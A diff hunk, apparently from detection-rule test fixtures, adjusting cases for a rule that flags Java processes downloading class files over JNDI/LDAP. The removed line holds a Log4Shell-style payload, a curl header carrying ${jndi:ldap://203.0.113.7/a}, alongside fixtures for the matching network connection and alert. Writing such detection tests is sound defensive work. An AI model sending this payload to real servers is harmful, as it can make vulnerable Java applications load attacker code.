@@ -57,7 +57,6 @@ export const THREAT_CASES: Readonly<Record<string, RuleCases>> = {
   "jndi-class-download": {
     fires: [
       network("connect", { ip: "203.0.113.7", port: 1389 }, "java"),
-      exec("curl -H X:${jndi:ldap://203.0.113.7/a} http://api"),
       falcoHit("Java Process Class File Download"),
     ],
     stays: [
